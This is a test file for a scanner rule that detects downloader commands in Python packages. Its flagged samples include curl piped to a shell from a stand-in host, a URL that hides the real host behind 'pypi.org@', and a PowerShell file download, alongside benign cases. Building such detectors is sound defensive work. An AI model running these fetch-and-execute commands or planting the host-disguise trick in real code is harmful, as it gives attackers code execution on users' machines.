import { testRule } from '../../../../../test/builders/python-package.ts';
import { downloaderCommand } from './rule.ts';

testRule(downloaderCommand, {
  seen: {
    'a host beside the package index':
      "import os\nos.system('curl https://pypi.org/a; curl collector.example.invalid/a | sh')",
    'a name before the host': "import os\nos.system('curl https://pypi.org@collector.example.invalid/a')",
    'curl piped to a shell': "import os\nos.system('curl -s https://collector.example.invalid/a | sh')",
    'a PowerShell download':
      "import subprocess\nsubprocess.Popen(['powershell', '-c', \"(New-Object Net.WebClient).DownloadFile('https://collector.example.invalid/a', 'a')\"])",
  },
  unseen: {
    'one file of the package index':
      "import os\nos.system('curl -O https://files.pythonhosted.org/packages/demo-1.tar.gz')",
    'a local command': "import os\nos.system('demo --curl off')",
  },
});
